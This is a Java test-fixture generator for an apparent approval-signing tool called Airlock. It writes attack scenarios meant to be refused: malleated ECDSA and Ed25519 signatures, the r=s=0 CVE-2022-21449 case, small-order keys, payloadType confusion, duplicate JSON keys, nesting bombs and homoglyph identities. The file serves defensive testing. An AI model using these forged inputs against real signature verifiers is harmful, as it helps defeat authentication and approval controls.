package dev.airlock.core.synthetic;

import dev.airlock.core.capsule.Approval;
import dev.airlock.core.capsule.Capsule;
import dev.airlock.core.crypto.Hex;
import dev.airlock.core.crypto.SigningKey;
import dev.airlock.core.dsse.Dsse;
import dev.airlock.core.dsse.Envelope;
import dev.airlock.core.dsse.PayloadTypes;
import dev.airlock.core.json.StrictJson;
import dev.airlock.core.policy.Policy;
import dev.airlock.core.testing.Forge;
import dev.airlock.core.testing.PolicySpec;
import dev.airlock.core.testing.TestPki;
import dev.airlock.core.verify.AdmissionLedger;
import dev.airlock.core.verify.FileLedger;
import dev.airlock.core.verify.ReasonCode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import static dev.airlock.core.synthetic.ScenarioRunner.CAPSULE;
import static dev.airlock.core.synthetic.ScenarioRunner.ENVIRONMENT;
import static dev.airlock.core.synthetic.ScenarioRunner.EXPECTED;
import static dev.airlock.core.synthetic.ScenarioRunner.LEDGER;
import static dev.airlock.core.synthetic.ScenarioRunner.NOW;
import static dev.airlock.core.synthetic.ScenarioRunner.POLICY;
import static dev.airlock.core.synthetic.ScenarioRunner.README;
import static dev.airlock.core.testing.TestPki.PROD;
import static dev.airlock.core.testing.TestPki.STAGING;

/**
 * Writes the synthetic attack scenarios of SECURITY-TESTS A–D as fixture folders, deterministically from
 * {@link TestPki} (Ed25519 and RFC 6979 ECDSA signatures are deterministic, the clock is fixed). Each folder holds the
 * real input files of {@code airlock capsule verify} and an {@code expected.json} whose content is stated here, by
 * hand, from the specification — never computed by running the engine.
 *
 * <p>Regenerate after an intended change with
 * {@code ./mvnw -B -o -pl capsule-core test -Dtest=SyntheticScenariosTest -Dairlock.regenerateFixtures=true}
 * (or run {@link #main} with the resource folder as argument). {@code SyntheticScenariosTest} fails while the
 * committed folders differ from what this class writes.
 */
public final class SyntheticScenarios {
    public static final String RESOURCE_PATH = "dev/airlock/core/synthetic";

    static final String SO = "service-owner";
    static final String SECO = "security-officer";
    static final String AO = "authorizing-official";
    static final String FLEET = "fleet.dependency-bump";
    static final String AUTO = "governance.auto";
    static final String TICKET = "CHG0012345";
    static final String CAPSULE_ID = "0194f3c2-7b1e-7cc0-9a55-3f1f2d7c9a01";
    static final Instant T = TestPki.NOW;
    static final Instant DECIDED = T.minus(Duration.ofMinutes(5));

    /** One folder: its name and its files (name → exact bytes). */
    public record Scenario(String name, SortedMap<String, byte[]> files) {
    }

    private final TestPki pki = new TestPki();
    private final List<Scenario> scenarios = new ArrayList<>();
    private final byte[] stdPolicy;

    private SyntheticScenarios() {
        stdPolicy = sign(pki.policy(1), 1, 2);
    }

    public static List<Scenario> all() {
        SyntheticScenarios g = new SyntheticScenarios();
        g.baseline();
        g.algorithms();
        g.envelopes();
        g.verifyBeforeParse();
        g.duplicateKeys();
        g.strictJson();
        g.unicode();
        g.sizeBombs();
        g.thresholds();
        g.rotation();
        g.separationOfDuties();
        g.replayAndRollback();
        g.freshness();
        g.mixAndMatch();
        g.commands();
        g.remainingReasonCodes();
        g.paths();
        g.keyEncodings();
        g.jsonSpellings();
        g.modes();
        return Collections.unmodifiableList(g.scenarios);
    }

    /** Writes every scenario folder under {@code root} (which must not contain stale scenario folders). */
    public static void write(Path root) throws IOException {
        for (Scenario s : all()) {
            Path dir = root.resolve(s.name());
            Files.createDirectories(dir);
            for (Map.Entry<String, byte[]> f : s.files().entrySet()) {
                Path file = dir.resolve(f.getKey());
                Files.createDirectories(file.getParent());
                Files.write(file, f.getValue());
            }
        }
    }

    /**
     * Regenerates the committed fixtures: deletes the scenario folders under the given root (files directly under it,
     * such as its README, stay) and writes them anew.
     */
    public static void main(String[] args) throws IOException {
        Path root = Path.of(args.length > 0 ? args[0] : "capsule-core/src/test/resources/" + RESOURCE_PATH);
        if (Files.isDirectory(root)) {
            try (Stream<Path> folders = Files.list(root)) {
                for (Path folder : folders.filter(Files::isDirectory).toList()) {
                    try (Stream<Path> walk = Files.walk(folder)) {
                        for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
                            Files.delete(p);
                        }
                    }
                }
            }
        }
        Files.createDirectories(root);
        write(root);
        System.out.println("wrote " + all().size() + " scenarios to " + root);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Scenarios

    private void baseline() {
        Envelope c = capsule(x -> x);
        sc("admitted-t2-two-approvers", "Baseline: a T2 capsule approved by a service-owner and a security-officer is admitted.")
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)))
                .admitted(1, "alice/" + SO, "bob/" + SECO);

        Envelope t3 = capsule(x -> x.with(s -> s.tier = "T3"));
        sc("admitted-t3-three-roles", "A T3 capsule needs service-owner, security-officer and authorizing-official: all three approve.")
                .capsule(bundle(t3, ok(t3, "alice", SO), ok(t3, "bob", SECO), ok(t3, "carol", AO)))
                .admitted(1, "alice/" + SO, "bob/" + SECO, "carol/" + AO);

        Envelope t1 = capsule(x -> x.with(s -> {
            s.tier = "T1";
            s.environment = STAGING;
        }));
        sc("admitted-t1-auto-approval-in-staging", "T1 auto-approves in staging: one policy-auto approval by the automation principal admits it.")
                .environment(STAGING)
                .capsule(bundle(t1, approval(t1, AUTO, "auto-approver", Approval.APPROVE, null, Approval.POLICY_AUTO)))
                .admitted(1, AUTO + "/auto-approver");

        Envelope obs = capsule(x -> x.with(s -> s.environment = TestPki.OBSERVE));
        sc("admitted-observe-environment", "A T2 capsule for the observe-only environment is admitted there (effective mode observe).")
                .environment(TestPki.OBSERVE)
                .capsule(bundle(obs, ok(obs, "alice", SO), ok(obs, "bob", SECO)))
                .mode("observe")
                .admitted(1, "alice/" + SO, "bob/" + SECO);
    }

    /** SECURITY-TESTS A.2–A.5 as they reach the engine: P-256 principals, malleated and confused signatures. */
    private void algorithms() {
        SigningKey fleetP256 = TestPki.p256Key(FLEET);
        SigningKey bobP256 = TestPki.p256Key("bob");
        byte[] p256Policy = sign(PolicySpec.edit(pki.policy(1), s -> s
                .principal(principal(FLEET, "agent", fleetP256, "proposer"))
                .principal(principal("bob", "human", bobP256, SECO))), 1, 2);

        Envelope c = capsuleSignedBy(pki.capsule(), fleetP256);
        sc("p256-proposer-and-approver-admitted", "ECDSA P-256 (PIV-style) keys for the proposer and one approver: admitted.")
                .policy(p256Policy)
                .capsule(bundle(c, ok(c, "alice", SO), approval(c, "bob", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, bobP256)))
                .admitted(1, "alice/" + SO, "bob/" + SECO);

        byte[] payload = c.payloadBytes();
        byte[] lowS = sigBytes(c, 0);
        sc("p256-capsule-signature-high-s", "A.2: the proposer's P-256 signature replaced by its high-S twin (r, n-s) is refused.")
                .policy(p256Policy)
                .capsule(bundle(withSigs(c, sig(fleetP256, Forge.highS(lowS))), ok(c, "alice", SO), ok(c, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);

        sc("p256-capsule-signature-r-s-zero", "A.2 / CVE-2022-21449: an ECDSA signature with r = s = 0 is refused.")
                .policy(p256Policy)
                .capsule(bundle(withSigs(c, sig(fleetP256, Hex.decode("3006020100020100"))), ok(c, "alice", SO),
                        ok(c, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);

        byte[] ber = berLongFormLength(lowS);
        sc("p256-capsule-signature-ber-length", "A.2: the valid signature re-encoded with a BER long-form length is not strict DER: refused.")
                .policy(p256Policy)
                .capsule(bundle(withSigs(c, sig(fleetP256, ber)), ok(c, "alice", SO), ok(c, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);

        Envelope bobOk = approval(c, "bob", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, bobP256);
        sc("p256-approval-high-s-does-not-count", "A.2: bob's P-256 approval with a high-S signature does not count: one approver short.")
                .policy(p256Policy)
                .capsule(bundle(c, ok(c, "alice", SO), withSigs(bobOk, sig(bobP256, Forge.highS(sigBytes(bobOk, 0))))))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "signature does not verify");

        Envelope e = capsule(x -> x);
        byte[] edSig = sigBytes(e, 0);
        SigningKey fleet = pki.of(FLEET);
        sc("ed25519-signature-65-bytes", "A.3: the proposer's Ed25519 signature with a trailing 0x00 (65 bytes) is refused.")
                .capsule(bundle(withSigs(e, sig(fleet, concat(edSig, new byte[] {0}))), ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        sc("ed25519-signature-63-bytes", "A.3: the proposer's Ed25519 signature truncated to 63 bytes is refused.")
                .capsule(bundle(withSigs(e, sig(fleet, java.util.Arrays.copyOf(edSig, 63))), ok(e, "alice", SO),
                        ok(e, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        sc("ed25519-signature-s-plus-l", "A.4: the malleated Ed25519 signature R || S+L (non-canonical S) is refused.")
                .capsule(bundle(withSigs(e, sig(fleet, Forge.ed25519AddL(edSig))), ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);

        byte[] ecdsaOverPae = fleetP256.sign(Dsse.pae(e.payloadType(), e.payloadBytes()));
        sc("ecdsa-signature-for-ed25519-key", "A.5: a valid P-256 signature presented under the proposer's Ed25519 keyid is refused.")
                .capsule(bundle(withSigs(e, sig(fleet, ecdsaOverPae)), ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        Envelope cEd = capsuleSignedBy(pki.capsule(), fleet);
        sc("ed25519-signature-for-p256-key", "A.5: a valid Ed25519 signature presented under the proposer's P-256 keyid is refused.")
                .policy(p256Policy)
                .capsule(bundle(withSigs(cEd, sig(fleetP256, sigBytes(cEd, 0))), ok(cEd, "alice", SO), ok(cEd, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        sc("keyid-of-key-a-signature-by-key-b", "A.5: the capsule signature is by the proposer's key but its keyid names alice's key: refused.")
                .capsule(bundle(withSigs(e, new Envelope.Signature(pki.of("alice").keyid(), b64(edSig))),
                        ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);

        byte[] smallOrder = Forge.ed25519Spki(Forge.ed25519IdentityKey());
        sc("policy-small-order-principal-key", "A.4: a policy enrolling an Ed25519 key of small order (the identity point) is refused at load.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.principal(new Policy.Principal("dave", "human",
                        List.of(SO), List.of(new Policy.KeyRef(Hex.sha256Hex(smallOrder), Forge.publicPem(smallOrder)))))), 1, 2))
                .capsule(bundle(e, ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "large order");
        byte[] order8 = Forge.ed25519Spki(Forge.ed25519Order8Key());
        sc("policy-small-order-root-key", "A.4: a policy whose root lists an Ed25519 key of order 8 is refused at load.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.with(x -> x.rootKeys = new ArrayList<>(List.of(
                        TestPki.ref(pki.root(1)), TestPki.ref(pki.root(2)),
                        new Policy.KeyRef(Hex.sha256Hex(order8), Forge.publicPem(order8)))))), 1, 2))
                .capsule(bundle(e, ok(e, "alice", SO), ok(e, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "large order");
    }

    /** SECURITY-TESTS B.6: the payloadType is authenticated by the PAE and must be the expected one. */
    private void envelopes() {
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        Envelope b = ok(c, "bob", SECO);
        sc("payload-type-capsule-swapped-to-approval", "B.6: the capsule envelope's payloadType swapped to the approval type (bytes otherwise valid): MALFORMED.")
                .capsule(bundle(Envelope.of(PayloadTypes.APPROVAL, c.payloadBytes(), c.signatures()), a, b))
                .rejected(ReasonCode.MALFORMED, 1, "payloadType");
        sc("payload-type-approval-swapped-to-capsule", "B.6: an approval envelope's payloadType swapped to the capsule type: MALFORMED.")
                .capsule(bundle(c, a, Envelope.of(PayloadTypes.CAPSULE, b.payloadBytes(), b.signatures())))
                .rejected(ReasonCode.MALFORMED, 1, "payloadType");
        sc("payload-type-relabelled-approval-as-capsule", "B.6: alice's signed approval relabelled as a capsule: the PAE binds the type, so the signature fails.")
                .capsule(bundle(Envelope.of(PayloadTypes.CAPSULE, a.payloadBytes(), a.signatures()), a, b))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        Envelope upper = Dsse.sign("application/vnd.airlock.capsule.v1+JSON", c.payloadBytes(), pki.of(FLEET));
        sc("payload-type-case-variant-validly-signed", "B.6: a capsule validly signed under the payloadType '...capsule.v1+JSON' (case variant): MALFORMED.")
                .capsule(bundle(upper, a, b))
                .rejected(ReasonCode.MALFORMED, 1, "payloadType");
        String js = str(bundle(c, a, b));
        String p64 = c.payload();
        sc("payload-base64-with-line-breaks", "B.6: the capsule payload as MIME base64 with a line break (not canonical base64): MALFORMED.")
                .capsule(utf8(replaceOnce(js, p64, p64.substring(0, 76) + "\\n" + p64.substring(76))))
                .rejected(ReasonCode.MALFORMED, 1, "base64");
        sc("payload-base64-url-safe-alphabet", "B.6: the capsule payload in base64url without padding (Airlock requires canonical standard base64): MALFORMED.")
                .capsule(utf8(replaceOnce(js, p64, Base64.getUrlEncoder().withoutPadding().encodeToString(c.payloadBytes()))))
                .rejected(ReasonCode.MALFORMED, 1, "base64");
    }

    /** SECURITY-TESTS B.7: unverified bytes never reach the payload parser. */
    private void verifyBeforeParse() {
        Envelope good = capsule(x -> x);
        Envelope a = ok(good, "alice", SO);
        Envelope b = ok(good, "bob", SECO);
        String otherSig = good.signatures().get(0).sig(); // a real signature by the proposer, over other bytes
        byte[] garbage = utf8("{\"schema\":\"airlock.capsule/v1\",\"capsuleId\":");
        Envelope garbageBadSig = Envelope.of(PayloadTypes.CAPSULE, garbage,
                List.of(new Envelope.Signature(pki.of(FLEET).keyid(), otherSig)));
        sc("unparseable-payload-invalid-signature", "B.7: truncated JSON as capsule payload under the proposer's keyid but an invalid signature: the signature's reason, never MALFORMED.")
                .capsule(bundle(garbageBadSig, a, b))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        sc("unparseable-payload-unknown-key", "B.7: truncated JSON as capsule payload signed by a key outside the policy: UNKNOWN_KEY, never MALFORMED.")
                .capsule(bundle(Dsse.sign(PayloadTypes.CAPSULE, garbage, TestPki.key("mallory")), a, b))
                .rejected(ReasonCode.UNKNOWN_KEY, 1);
        sc("unparseable-payload-valid-signature", "B.7 twin: the same truncated JSON validly signed by the proposer is parsed, and is MALFORMED.")
                .capsule(bundle(Dsse.sign(PayloadTypes.CAPSULE, garbage, pki.of(FLEET)), a, b))
                .rejected(ReasonCode.MALFORMED, 1);

        byte[] bomb = utf8("{\"schema\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}");
        sc("depth-bomb-payload-invalid-signature", "B.7: a 10,000-deep capsule payload under an invalid signature is never parsed: SIGNATURE_INVALID.")
                .capsule(bundle(Envelope.of(PayloadTypes.CAPSULE, bomb,
                        List.of(new Envelope.Signature(pki.of(FLEET).keyid(), otherSig))), a, b))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        sc("depth-bomb-payload-valid-signature", "B.7 twin: the same depth bomb validly signed by the proposer is parsed with bounded depth: TOO_LARGE.")
                .capsule(bundle(Dsse.sign(PayloadTypes.CAPSULE, bomb, pki.of(FLEET)), a, b))
                .rejected(ReasonCode.TOO_LARGE, 1, "nesting deeper than");

        byte[] badApproval = utf8("{\"schema\":\"airlock.approval/v1\",\"decision\":\"approve\"");
        sc("unparseable-approval-invalid-signature", "B.7: an approval with truncated JSON under bob's keyid but an invalid signature is ignored unparsed: one approver short.")
                .capsule(bundle(good, a, Envelope.of(PayloadTypes.APPROVAL, badApproval,
                        List.of(new Envelope.Signature(pki.of("bob").keyid(), b.signatures().get(0).sig())))))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "signature does not verify");
        sc("unparseable-approval-valid-signature", "B.7 twin: the same truncated approval validly signed by bob is parsed, and is MALFORMED.")
                .capsule(bundle(good, a, Dsse.sign(PayloadTypes.APPROVAL, badApproval, pki.of("bob"))))
                .rejected(ReasonCode.MALFORMED, 1);

        byte[] notJson = utf8("{\"schema\":\"airlock.policy/v1\",\"version\":2,");
        sc("policy-rotation-unparseable-unauthorised", "B.7: a next policy whose payload is truncated JSON, not signed by the installed root: POLICY_INVALID before any parse.")
                .history(1, stdPolicy)
                .policy(Dsse.sign(PayloadTypes.POLICY, notJson, pki.of("alice"), pki.of("bob")).toJson())
                .capsule(bundle(good, a, b))
                .rejected(ReasonCode.POLICY_INVALID, 1, "version 1 root");
        sc("policy-rotation-unparseable-signed-by-root", "B.7 twin: the same truncated policy signed by the installed root's threshold is parsed, and is MALFORMED.")
                .history(1, stdPolicy)
                .policy(Dsse.sign(PayloadTypes.POLICY, notJson, pki.root(1), pki.root(2)).toJson())
                .capsule(bundle(good, a, b))
                .rejected(ReasonCode.MALFORMED, 1);
    }

    /** SECURITY-TESTS B.8: duplicate keys at any depth, in every document. */
    private void duplicateKeys() {
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        Envelope b = ok(c, "bob", SECO);
        String js = str(bundle(c, a, b));
        sc("duplicate-key-signed-capsule-top-level", "B.8: the signed-capsule container carries \"approvals\" twice (an empty list first): MALFORMED.")
                .capsule(utf8(replaceOnce(js, "\"approvals\":[", "\"approvals\":[],\"approvals\":[")))
                .rejected(ReasonCode.MALFORMED, 1, "uplicate");
        sc("duplicate-key-capsule-envelope", "B.8: the capsule envelope carries \"payloadType\" twice: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "\"payloadType\":\"" + PayloadTypes.CAPSULE + "\"",
                        "\"payloadType\":\"" + PayloadTypes.APPROVAL + "\",\"payloadType\":\"" + PayloadTypes.CAPSULE + "\"")))
                .rejected(ReasonCode.MALFORMED, 1, "uplicate");

        byte[] dupMode = utf8(replaceOnce(str(StrictJson.write(pki.capsule())), "\"mode\":\"apply\"",
                "\"mode\":\"observe\",\"mode\":\"apply\""));
        Envelope dupCapsule = Dsse.sign(PayloadTypes.CAPSULE, dupMode, pki.of(FLEET));
        sc("duplicate-key-capsule-payload", "B.8: the signed capsule payload says {\"mode\":\"observe\",\"mode\":\"apply\"} (approved as is): MALFORMED.")
                .capsule(bundle(dupCapsule, approvalOf(dupCapsule, CAPSULE_ID, "alice", SO, Approval.APPROVE, pki.of("alice")),
                        approvalOf(dupCapsule, CAPSULE_ID, "bob", SECO, Approval.APPROVE, pki.of("bob"))))
                .rejected(ReasonCode.MALFORMED, 1, "uplicate");
        byte[] dupDeep = utf8(replaceOnce(str(StrictJson.write(pki.capsule())), "\"reachable\":true",
                "\"reachable\":false,\"reachable\":true"));
        Envelope dupDeepCapsule = Dsse.sign(PayloadTypes.CAPSULE, dupDeep, pki.of(FLEET));
        sc("duplicate-key-capsule-payload-nested", "B.8: a duplicate key three levels deep in the signed capsule (finding.reachability.reachable): MALFORMED.")
                .capsule(bundle(dupDeepCapsule,
                        approvalOf(dupDeepCapsule, CAPSULE_ID, "alice", SO, Approval.APPROVE, pki.of("alice")),
                        approvalOf(dupDeepCapsule, CAPSULE_ID, "bob", SECO, Approval.APPROVE, pki.of("bob"))))
                .rejected(ReasonCode.MALFORMED, 1, "uplicate");

        byte[] dupDecision = utf8(replaceOnce(str(b.payloadBytes()), "\"decision\":\"approve\"",
                "\"decision\":\"reject\",\"decision\":\"approve\""));
        sc("duplicate-key-approval-payload", "B.8: bob's signed approval says {\"decision\":\"reject\",\"decision\":\"approve\"}: MALFORMED.")
                .capsule(bundle(c, a, Dsse.sign(PayloadTypes.APPROVAL, dupDecision, pki.of("bob"))))
                .rejected(ReasonCode.MALFORMED, 1, "uplicate");

        byte[] dupPolicy = utf8(replaceOnce(str(StrictJson.write(pki.policy(1))), "\"root\":{\"threshold\":2",
                "\"root\":{\"threshold\":1,\"threshold\":2"));
        sc("duplicate-key-policy-payload", "B.8: the signed policy's root says {\"threshold\":1,\"threshold\":2}: MALFORMED, nothing installed.")
                .policy(Dsse.sign(PayloadTypes.POLICY, dupPolicy, pki.root(1), pki.root(2)).toJson())
                .capsule(bundle(c, a, b))
                .rejected(ReasonCode.MALFORMED, null, "uplicate");
    }

    /** SECURITY-TESTS B.9: strict JSON on the bytes that crossed the diode, and inside signed payloads. */
    private void strictJson() {
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        Envelope b = ok(c, "bob", SECO);
        byte[] good = bundle(c, a, b);
        String js = str(good);
        sc("json-trailing-data", "B.9: a second JSON value after the signed capsule: MALFORMED.")
                .capsule(concat(good, utf8("\n{}")))
                .rejected(ReasonCode.MALFORMED, 1, "trailing");
        sc("json-byte-order-mark", "B.9: a UTF-8 byte order mark before the signed capsule: MALFORMED.")
                .capsule(concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, good))
                .rejected(ReasonCode.MALFORMED, 1, "byte order mark");
        sc("json-comment", "B.9: a /* comment */ inside the signed capsule: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "{\"schema\"", "{/* approved by CAB */\"schema\"")))
                .rejected(ReasonCode.MALFORMED, 1, "invalid JSON");
        sc("json-nan", "B.9: NaN as a JSON value: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "\"approvals\":[", "\"approvals\":[NaN,")))
                .rejected(ReasonCode.MALFORMED, 1, "invalid JSON");
        sc("json-infinity", "B.9: -Infinity as a JSON value: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "\"approvals\":[", "\"approvals\":[-Infinity,")))
                .rejected(ReasonCode.MALFORMED, 1, "invalid JSON");
        sc("json-trailing-comma", "B.9: a trailing comma in the approvals array: MALFORMED.")
                .capsule(utf8(js.substring(0, js.length() - 2) + ",]}"))
                .rejected(ReasonCode.MALFORMED, 1, "invalid JSON");
        sc("json-invalid-utf8", "B.9: an invalid UTF-8 sequence (0xC3 0x28) inside a string: MALFORMED.")
                .capsule(replaceBytes(good, "\"keyid\":\"", concat(utf8("\"keyid\":\""), new byte[] {(byte) 0xC3, 0x28})))
                .rejected(ReasonCode.MALFORMED, 1, "UTF-8");
        sc("json-overlong-utf8", "B.9: an overlong UTF-8 encoding of '/' (0xC0 0xAF) inside a string: MALFORMED.")
                .capsule(replaceBytes(good, "\"keyid\":\"", concat(utf8("\"keyid\":\""), new byte[] {(byte) 0xC0, (byte) 0xAF})))
                .rejected(ReasonCode.MALFORMED, 1, "UTF-8");
        sc("json-utf8-encoded-surrogate", "B.9: a UTF-16 surrogate encoded as UTF-8 bytes (0xED 0xA0 0x80): MALFORMED.")
                .capsule(replaceBytes(good, "\"keyid\":\"", concat(utf8("\"keyid\":\""),
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})))
                .rejected(ReasonCode.MALFORMED, 1, "UTF-8");
        sc("json-lone-surrogate-escape", "B.9: a lone surrogate escape \\ud800 inside a string: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "\"keyid\":\"", "\"keyid\":\"\\ud800")))
                .rejected(ReasonCode.MALFORMED, 1, "surrogate");

        String capsuleJson = str(StrictJson.write(pki.capsule()));
        signedPayload("json-trailing-data-in-signed-payload", "B.9: the proposer validly signed a capsule payload followed by a second JSON value: MALFORMED.",
                capsuleJson + "\n{}", "trailing");
        signedPayload("json-float-in-signed-payload", "B.9: the proposer validly signed a capsule whose sequence is 3.0 (no floating point in signed documents): MALFORMED.",
                replaceOnce(capsuleJson, "\"sequence\":3,", "\"sequence\":3.0,"), "floating-point");
        signedPayload("json-nan-in-signed-payload", "B.9: the proposer validly signed a capsule whose sequence is NaN: MALFORMED.",
                replaceOnce(capsuleJson, "\"sequence\":3,", "\"sequence\":NaN,"), "invalid JSON");
        signedPayload("json-lone-surrogate-in-signed-payload", "B.9: the proposer validly signed a capsule whose lineage ends in a lone surrogate escape: MALFORMED.",
                replaceOnce(capsuleJson, "\"lineage\":\"payments-api:CVE-2021-44228\"",
                        "\"lineage\":\"payments-api:CVE-2021-44228\\udc00\""), "surrogate");
        signedPayload("capsule-unknown-schema", "B.9 / §3: the proposer validly signed a capsule whose schema is airlock.capsule/v2: MALFORMED.",
                replaceOnce(capsuleJson, "\"schema\":\"airlock.capsule/v1\"", "\"schema\":\"airlock.capsule/v2\""), "schema");
        signedPayload("capsule-unknown-field", "B.9 / §3: the proposer validly signed a capsule with an extra field 'preApproved': MALFORMED.",
                replaceOnce(capsuleJson, "\"schema\":\"airlock.capsule/v1\",",
                        "\"schema\":\"airlock.capsule/v1\",\"preApproved\":true,"), "preApproved");
        sc("signed-capsule-unknown-schema", "§3.4: a container whose schema is airlock.signed-capsule/v2: MALFORMED.")
                .capsule(utf8(replaceOnce(js, "airlock.signed-capsule/v1", "airlock.signed-capsule/v2")))
                .rejected(ReasonCode.MALFORMED, 1, "signed-capsule");
        sc("policy-unknown-schema", "§3: a root-signed policy whose schema is airlock.policy/v2: MALFORMED, nothing installed.")
                .policy(Dsse.sign(PayloadTypes.POLICY, utf8(replaceOnce(str(StrictJson.write(pki.policy(1))),
                        "airlock.policy/v1", "airlock.policy/v2")), pki.root(1), pki.root(2)).toJson())
                .capsule(good)
                .rejected(ReasonCode.MALFORMED, null, "schema");
    }

    private void signedPayload(String slug, String readme, String payload, String detail) {
        Envelope c = Dsse.sign(PayloadTypes.CAPSULE, utf8(payload), pki.of(FLEET));
        sc(slug, readme)
                .capsule(bundle(c, approvalOf(c, CAPSULE_ID, "alice", SO, Approval.APPROVE, pki.of("alice")),
                        approvalOf(c, CAPSULE_ID, "bob", SECO, Approval.APPROVE, pki.of("bob"))))
                .rejected(ReasonCode.MALFORMED, 1, detail);
    }

    /** SECURITY-TESTS B.10: identifiers are compared as exact ASCII; lookalikes are other principals or refused. */
    private void unicode() {
        Envelope c = capsule(x -> x);
        Envelope b = ok(c, "bob", SECO);
        sc("unicode-nfc-approver-id", "B.10: alice's key signs an approval claiming approver 'alic\\u00e9' (NFC): not an identifier Airlock accepts, MALFORMED.")
                .capsule(bundle(c, rawApproval(c, "alic\u00e9", SO, pki.of("alice")), b))
                .rejected(ReasonCode.MALFORMED, 1, "approver");
        sc("unicode-nfd-approver-id", "B.10: alice's key signs an approval claiming approver 'alice\\u0301' (NFD): MALFORMED, never equal to any principal.")
                .capsule(bundle(c, rawApproval(c, "alice\u0301", SO, pki.of("alice")), b))
                .rejected(ReasonCode.MALFORMED, 1, "approver");
        sc("unicode-cyrillic-homoglyph-approver-id", "B.10: alice's key signs an approval claiming '\\u0430lice' (Cyrillic a): MALFORMED.")
                .capsule(bundle(c, rawApproval(c, "\u0430lice", SO, pki.of("alice")), b))
                .rejected(ReasonCode.MALFORMED, 1, "approver");
        sc("unicode-nfc-principal-in-policy", "B.10: a root-signed policy enrolling the principal 'ren\\u00e9': refused at load (MALFORMED).")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s), 1, 2, "\"id\":\"dave\"", "\"id\":\"ren\\u00e9\""))
                .capsule(bundle(c, ok(c, "alice", SO), b))
                .rejected(ReasonCode.MALFORMED, null, "principal id");

        SigningKey lookalike = TestPki.key("aIice");
        byte[] withLookalike = sign(PolicySpec.edit(pki.policy(1), s -> s.principal(principal("aIice", "human", lookalike, SO))), 1, 2);
        sc("homoglyph-ascii-lookalike-claims-alice", "B.10: principal 'aIice' (capital I) signs an approval claiming to be 'alice': it is not alice, one approver short.")
                .policy(withLookalike)
                .capsule(bundle(c, approval(c, "alice", SO, Approval.APPROVE, TICKET, Approval.REVIEW, lookalike), b))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "claims approver 'alice'");
        sc("homoglyph-ascii-lookalike-counts-as-itself", "B.10: principal 'aIice' approving as itself counts as 'aIice' (named so in the verdict), never as 'alice'.")
                .policy(withLookalike)
                .capsule(bundle(c, approval(c, "aIice", SO, Approval.APPROVE, TICKET, Approval.REVIEW, lookalike), b))
                .admitted(1, "aIice/" + SO, "bob/" + SECO);
    }

    /** SECURITY-TESTS B.11: size and shape bombs fail on counting, before anything is bound or verified. */
    private void sizeBombs() {
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        Envelope b = ok(c, "bob", SECO);
        byte[] good = bundle(c, a, b);
        long max = 8192;
        byte[] small = sign(PolicySpec.edit(pki.policy(1), s -> s.environment(withMaxBytes(s.environments.get(0), max))), 1, 2);
        sc("size-exactly-max-capsule-bytes", "B.11 twin: a signed capsule of exactly maxCapsuleBytes (8192, padded with JSON whitespace) is admitted.")
                .policy(small)
                .capsule(pad(good, (int) max))
                .admitted(1, "alice/" + SO, "bob/" + SECO);
        sc("size-max-capsule-bytes-plus-one", "B.11: the same signed capsule one byte over maxCapsuleBytes (8193): TOO_LARGE before parsing.")
                .policy(small)
                .capsule(pad(good, (int) max + 1))
                .rejected(ReasonCode.TOO_LARGE, 1, "8193 bytes, limit 8192");

        String js = str(good);
        sc("shape-nesting-depth-10000", "B.11: 10,000 nested arrays inside the approvals list: TOO_LARGE at depth 33, bounded cost.")
                .capsule(utf8(replaceOnce(js, "\"approvals\":[", "\"approvals\":[" + "[".repeat(10_000) + "]".repeat(10_000) + ",")))
                .rejected(ReasonCode.TOO_LARGE, 1, "nesting deeper than 32");
        StringBuilder million = new StringBuilder(2_000_000);
        for (int i = 0; i < 1_000_000; i++) {
            million.append("0,");
